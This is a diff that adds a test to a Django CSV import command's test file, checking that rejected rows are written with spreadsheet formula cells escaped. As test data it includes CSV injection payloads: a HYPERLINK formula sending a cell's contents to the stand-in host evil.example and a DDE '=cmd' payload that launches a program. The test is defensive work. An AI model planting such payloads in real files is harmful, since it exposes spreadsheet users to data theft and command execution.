@@ -1,4 +1,5 @@
 """Import with matching (issue 7, seed 003): service, API and command."""
+import csv
 import json
 from io import StringIO
 
@@ -119,3 +120,27 @@ def test_the_command_with_json_lines_and_dry_run(tmp_path, admin_user):
     assert "3 would be created" in out.getvalue() and not Customer.objects.exists()
     with pytest.raises(CommandError):
         call_command("import_profiles", str(path), "--matching", "custom", stdout=StringIO(), stderr=StringIO())
+
+
+def test_the_rejected_rows_never_open_as_formulas(tmp_path, admin_user):
+    """A row refused for its postcode still carries what was typed: written as text, not as formulas."""
+    path = tmp_path / "people.csv"
+    hyperlink = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
+    rows = [
+        ["contact_type", "preferred_contact_method", "first_name", "last_name", "postcode", "=cmd|' /C calc'!A0"],
+        ["Individual", "3", hyperlink, "+SUM(1,2)", "NOT A POSTCODE", "x"],
+        ["Individual", "3", "@SUM(1)", "-2+3", "NOT A POSTCODE", "\t=1+1"],
+        ["Individual", "3", "Ann", "Smith", "NOT A POSTCODE", "-1.5"],
+    ]
+    with path.open("w", newline="") as handle:
+        csv.writer(handle).writerows(rows)
+    call_command("import_profiles", str(path), "--matching", "email_address", stdout=StringIO(), stderr=StringIO())
+    with (tmp_path / "people.csv.rejects.csv").open(newline="") as handle:
+        header, *written = list(csv.reader(handle))
+    assert header[-2:] == ["'=cmd|' /C calc'!A0", "errors"]
+    assert written[0][:5] == ["Individual", "3", "'" + hyperlink, "'+SUM(1,2)", "NOT A POSTCODE"]
+    assert written[1][2:4] == ["'@SUM(1)", "'-2+3"] and written[1][5] == "'\t=1+1"
+    assert written[2][2:4] == ["Ann", "Smith"] and written[2][5] == "-1.5"  # a plain number stays a number
+    for row in written:
+        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
+        assert "postcode" in row[-1]
